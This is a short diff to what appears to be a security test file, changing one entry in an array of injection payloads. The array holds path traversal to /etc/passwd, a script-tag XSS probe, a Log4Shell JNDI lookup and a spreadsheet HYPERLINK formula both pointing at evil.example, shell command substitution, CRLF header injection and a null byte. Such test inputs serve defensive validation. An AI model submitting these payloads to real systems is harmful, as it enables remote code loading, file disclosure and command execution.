@@ -9,7 +9,7 @@ const INJECTIONS = [
   '../../../../etc/passwd',
   '<script>alert(1)</script>',
   '${jndi:ldap://evil.example/a}',
-  '$(touch /tmp/attacked)',
+  '$(touch attacked)',
   '=HYPERLINK("http://evil.example")',
   '97110\r\nset-cookie: a=b',
   'a\u0000b',
